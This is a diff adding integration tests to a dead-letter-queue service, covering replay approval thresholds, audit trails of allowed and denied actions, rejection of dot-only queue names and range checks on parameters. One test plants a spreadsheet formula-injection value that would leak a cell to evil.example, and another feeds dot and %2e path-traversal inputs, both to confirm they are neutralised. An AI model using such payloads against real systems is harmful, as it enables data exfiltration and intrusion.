@@ -106,6 +106,60 @@ describe('dead letters (dlq-backend with the real runtime, catalog and policy)',
     );
   });
 
+  // Runs before the other replay tests: Ines has no replays on the queue yet, and the
+  // plans here are cancelled before they start, so they count for nobody afterwards.
+  it('holds the approval threshold per requester and queue over the window (3 + 1 needs approval)', async () => {
+    const ids = await h.idsOf(await deadLetter(4));
+    const planIds = (user: string, selected: string[]) =>
+      call(user, 'POST', '/replays/plan', {
+        runtime: 'integration-runtime',
+        dlq: DLQ,
+        selection: { ids: selected },
+      });
+    const first = await planIds(INES, ids.slice(0, 3));
+    expect(first.status).toBe(201);
+    expect(first.body).toMatchObject({
+      approvalRequired: false,
+      plan: { count: 3 },
+    });
+    // The split: one more by the same person on the same queue crosses the threshold.
+    const second = await planIds(INES, ids.slice(3));
+    expect(second.body.approvalRequired).toBe(true);
+    // Someone else is counted apart.
+    const jonas = await planIds(JONAS, ids.slice(3));
+    expect(jonas.body.approvalRequired).toBe(false);
+
+    const submitted = await call(
+      INES,
+      'POST',
+      `/replays/${second.body.id}/submit`,
+      { reason: 'the last one' },
+    );
+    expect(submitted.body.status).toBe('awaiting-approval');
+    const { body: trail } = await call(
+      INES,
+      'GET',
+      `/audit?replayId=${second.body.id}`,
+    );
+    expect(trail.items.map((e: any) => e.detail).join(' | ')).toMatch(
+      /1 messages \+ 3 unapproved by the same requester on this queue in the last 60 min > 3/,
+    );
+
+    for (const [user, id] of [
+      [INES, first.body.id],
+      [INES, second.body.id],
+      [JONAS, jonas.body.id],
+    ]) {
+      expect(
+        (await call(user, 'POST', `/replays/${id}/cancel`, {})).body.status,
+      ).toBe('cancelled');
+    }
+    // Cancelled before they started: they no longer count.
+    const after = await planIds(INES, ids.slice(3));
+    expect(after.body.approvalRequired).toBe(false);
+    await call(INES, 'POST', `/replays/${after.body.id}/cancel`, {});
+  });
+
   it('refuses a replay to someone outside the owning group', async () => {
     const plan = await call(ALICE, 'POST', '/replays/plan', {
       runtime: 'integration-runtime',
@@ -304,10 +358,17 @@ describe('dead letters (dlq-backend with the real runtime, catalog and policy)',
       },
     );
     expect(denied.status).toBe(403);
+    const purgeDenied = await call(
+      ALICE,
+      'POST',
+      `/runtimes/integration-runtime/dlqs/${DLQ}/messages/purge`,
+      { ids: [id], reason: 'noise' },
+    );
+    expect(purgeDenied.status).toBe(403);
     const wrongQueue = await call(
       INES,
       'POST',
-      `/runtimes/integration-runtime/dlqs/erp-connector.payment-refunded/messages/purge`,
+      `/runtimes/integration-runtime/dlqs/${OTHER_DLQ}/messages/purge`,
       {
         ids: [id],
         reason: 'cleanup',
@@ -345,12 +406,33 @@ describe('dead letters (dlq-backend with the real runtime, catalog and policy)',
       'replay.finish:succeeded',
       'replay.finish:failed',
       'replay.cancel:succeeded',
+      'replay.plan:succeeded',
+      'replay.plan:denied',
       'message.archive:denied',
       'message.archive:succeeded',
+      'message.purge:denied',
       'message.purge:succeeded',
     ]) {
       expect(seen).toContain(expected);
     }
+    // The purge through another queue, refused because the message is not in it.
+    expect(trail.items).toContainEqual(
+      expect.objectContaining({
+        action: 'message.purge',
+        outcome: 'denied',
+        actor: INES,
+        dlq: OTHER_DLQ,
+        detail: expect.stringContaining(`belongs to '${DLQ}'`),
+      }),
+    );
+    expect(trail.items).toContainEqual(
+      expect.objectContaining({
+        action: 'message.purge',
+        outcome: 'denied',
+        actor: ALICE,
+        dlq: DLQ,
+      }),
+    );
     const approval = trail.items.find(
       (e: any) => e.action === 'replay.approve' && e.outcome === 'succeeded',
     );
@@ -379,6 +461,262 @@ describe('dead letters (dlq-backend with the real runtime, catalog and policy)',
     }
     const after = await call(ALICE, 'GET', '/audit?limit=1000');
     expect(after.body.items.length).toBe(trail.items.length);
+  });
+
+  it('audits every state-changing replay attempt, allowed or denied', async () => {
+    const ids = await h.idsOf(await deadLetter(4));
+    const planned = async (ratePerSecond?: number) => {
+      const res = await call(INES, 'POST', '/replays/plan', {
+        runtime: 'integration-runtime',
+        dlq: DLQ,
+        selection: { ids },
+        ...(ratePerSecond ? { ratePerSecond } : {}),
+      });
+      expect(res.body.approvalRequired).toBe(true);
+      return res.body.id as string;
+    };
+    const expectStatus = async (
+      status: number,
+      user: string,
+      url: string,
+      body: unknown = {},
+    ) => {
+      const res = await call(user, 'POST', url, body);
+      expect({ url, user, status: res.status }).toEqual({ url, user, status });
+    };
+    const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"details")';
+
+    // One to reject, one to approve (slowly, so it is still running) and cancel.
+    const rejected = await planned();
+    const approved = await planned(1);
+    await expectStatus(403, ALICE, '/replays/plan', {
+      runtime: 'integration-runtime',
+      dlq: DLQ,
+      selection: { ids },
+    });
+    await expectStatus(403, JONAS, `/replays/${rejected}/submit`, {
+      reason: 'not my plan',
+    });
+    for (const id of [rejected, approved]) {
+      await expectStatus(200, INES, `/replays/${id}/submit`, {
+        reason: 'ERP fixed (INC-43)',
+      });
+    }
+    await expectStatus(409, INES, `/replays/${rejected}/submit`, {
+      reason: 'once more',
+    });
+    await expectStatus(403, INES, `/replays/${rejected}/reject`, {
+      comment: 'my own',
+    });
+    await expectStatus(403, ALICE, `/replays/${rejected}/reject`, {
+      comment: 'not my team',
+    });
+    await expectStatus(200, JONAS, `/replays/${rejected}/reject`, {
+      comment: 'too many at once',
+    });
+    await expectStatus(403, INES, `/replays/${approved}/approve`);
+    await expectStatus(403, ALICE, `/replays/${approved}/approve`);
+    await expectStatus(200, JONAS, `/replays/${approved}/approve`, {
+      comment: 'go ahead',
+    });
+    await expectStatus(403, ALICE, `/replays/${approved}/cancel`, {
+      reason: 'not mine',
+    });
+    await expectStatus(200, INES, `/replays/${approved}/cancel`, {
+      reason: FORMULA,
+    });
+
+    const trailOf = async (id: string) =>
+      (await call(ALICE, 'GET', `/audit?replayId=${id}`)).body.items
+        .map((e: any) => `${e.action}:${e.outcome}:${e.actor}`)
+        .sort();
+    expect(await trailOf(rejected)).toEqual(
+      [
+        `replay.plan:succeeded:${INES}`,
+        `replay.submit:denied:${JONAS}`,
+        `replay.submit:succeeded:${INES}`,
+        `replay.submit:failed:${INES}`,
+        `replay.reject:denied:${INES}`,
+        `replay.reject:denied:${ALICE}`,
+        `replay.reject:succeeded:${JONAS}`,
+      ].sort(),
+    );
+    expect(await trailOf(approved)).toEqual(
+      expect.arrayContaining(
+        [
+          `replay.plan:succeeded:${INES}`,
+          `replay.submit:succeeded:${INES}`,
+          `replay.approve:denied:${INES}`,
+          `replay.approve:denied:${ALICE}`,
+          `replay.approve:succeeded:${JONAS}`,
+          `replay.cancel:denied:${ALICE}`,
+          `replay.cancel:succeeded:${INES}`,
+        ].sort(),
+      ),
+    );
+    // A refused plan has no replay id; it is on the queue's trail.
+    const { body: queueTrail } = await call(
+      ALICE,
+      'GET',
+      `/audit?dlq=${DLQ}&limit=50`,
+    );
+    expect(queueTrail.items).toContainEqual(
+      expect.objectContaining({
+        action: 'replay.plan',
+        outcome: 'denied',
+        actor: ALICE,
+        replayId: null,
+        detail: expect.stringContaining('only members of'),
+      }),
+    );
+
+    // The audit CSV shows the formula as text: quoted, behind a single quote.
+    const csv = await call(
+      ALICE,
+      'GET',
+      `/audit?format=csv&replayId=${approved}`,
+    );
+    expect(csv.type).toContain('text/csv');
+    expect(csv.body).toContain(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&B2,""details"")"`,
+    );
+    expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+
+  it('refuses queue names of dots before any runtime sees them', async () => {
+    const dots = ['.', '..', '...', '%2e', '%2e%2e', '%2E%2e', '.%2e', '%2e.'];
+    const paths = dots.flatMap(d => [
+      `/runtimes/recorder/dlqs/${d}`,
+      `/runtimes/recorder/dlqs/${d}/groups`,
+      `/runtimes/recorder/dlqs/${d}/messages`,
+      `/runtimes/recorder/dlqs/${d}/messages?limit=1`,
+      `/runtimes/integration-runtime/dlqs/${d}/messages`,
+    ]);
+    const recordedBefore = h.recorded.length;
+    for (const p of paths) {
+      const res = await h.raw({
+        method: 'GET',
+        path: p,
+        headers: { authorization: mockCredentials.user.header(INES) },
+      });
+      expect({ p, status: res.status }).toEqual({ p, status: 400 });
+      expect(res.body.error.message).toMatch(/not only dots/);
+    }
+    for (const d of dots) {
+      for (const action of ['archive', 'purge']) {
+        const res = await h.raw({
+          method: 'POST',
+          path: `/runtimes/recorder/dlqs/${d}/messages/${action}`,
+          headers: {
+            authorization: mockCredentials.user.header(INES),
+            'content-type': 'application/json',
+          },
+          body: JSON.stringify({
+            ids: ['00000000-0000-4000-8000-000000000000'],
+            reason: 'cleanup',
+          }),
+        });
+        expect({ d, action, status: res.status }).toEqual({
+          d,
+          action,
+          status: 400,
+        });
+      }
+    }
+    for (const dlq of ['.', '..', '....']) {
+      const plan = await call(INES, 'POST', '/replays/plan', {
+        runtime: 'recorder',
+        dlq,
+        selection: { fingerprint: '0123456789abcdef' },
+      });
+      expect(plan.status).toBe(400);
+      expect(plan.body.error.message).toMatch(/dlq: a queue name/);
+    }
+    expect(h.recorded.slice(recordedBefore)).toEqual([]);
+
+    // A name with dots inside is a name: it reaches the runtime as one segment.
+    const ok = await call(INES, 'GET', '/runtimes/recorder/dlqs/a..b');
+    expect(ok.status).toBe(404);
+    expect(h.recorded.slice(recordedBefore)).toEqual([
+      '/admin/v1/dlqs/a..b',
+      '/admin/v1/dlqs/a..b/inflow?hours=24&bucketMinutes=60',
+    ]);
+  });
+
+  it('answers replay parameters out of range with a 400 that gives the range', async () => {
+    const plan = (extra: object) =>
+      call(INES, 'POST', '/replays/plan', {
+        runtime: 'integration-runtime',
+        dlq: DLQ,
+        selection: { ids: ['00000000-0000-4000-8000-000000000000'] },
+        ...extra,
+      });
+    for (const ratePerSecond of [1e-300, 0, -1, 0.5, 501, '10', null, true]) {
+      const res = await plan({ ratePerSecond });
+      expect({ ratePerSecond, status: res.status }).toEqual({
+        ratePerSecond,
+        status: 400,
+      });
+      expect(res.body.error.message).toContain(
+        'ratePerSecond must be a number from 1 to 500',
+      );
+    }
+    // 1e309 is Infinity once parsed.
+    const infinite = await call(
+      INES,
+      'POST',
+      '/replays/plan',
+      `{"runtime":"integration-runtime","dlq":"${DLQ}","selection":{"fingerprint":"0123456789abcdef"},"ratePerSecond":1e309}`,
+    );
+    expect(infinite.status).toBe(400);
+    expect(infinite.body.error.message).toContain('from 1 to 500');
+    const tooMany = await plan({
+      selection: {
+        ids: Array.from(
+          { length: 1001 },
+          (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
+        ),
+      },
+    });
+    expect(tooMany.status).toBe(400);
+    expect(tooMany.body.error.message).toContain('1 to 1000 message ids');
+
+    const replayId = '00000000-0000-4000-8000-000000000000';
+    for (const [body, range] of [
+      [
+        { reason: 'ok', canarySize: -1 },
+        /canarySize must be an integer from 0 to 1000/,
+      ],
+      [
+        { reason: 'abc', canarySize: 1.5 },
+        /canarySize must be an integer from 0 to 1000/,
+      ],
+      [
+        { reason: 'abc', canarySize: 1001 },
+        /canarySize must be an integer from 0 to 1000/,
+      ],
+      [{ reason: 'x'.repeat(1001) }, /at most 1000 characters/],
+      [{ reason: '  a ' }, /reason of 3 to 1000 characters/],
+      [{ reason: 'a\u0000bc' }, /control characters/],
+    ] as const) {
+      const res = await call(INES, 'POST', `/replays/${replayId}/submit`, body);
+      expect({ body, status: res.status }).toEqual({ body, status: 400 });
+      expect(res.body.error.message).toMatch(range);
+    }
+    for (const [query, range] of [
+      ['limit=0', /limit must be an integer from 1 to 500/],
+      ['limit=1e3', /limit must be an integer from 1 to 500/],
+      ['after=-2', /after must be an integer from -1 to/],
+      ['after=99999999999999999999', /after must be an integer from -1 to/],
+    ] as const) {
+      const res = await call(
+        INES,
+        'GET',
+        `/replays/${replayId}/items?${query}`,
+      );
+      expect({ query, status: res.status }).toEqual({ query, status: 400 });
+      expect(res.body.error.message).toMatch(range);
+    }
   });
 
   it('answers bad input and broken runtimes with clear errors', async () => {
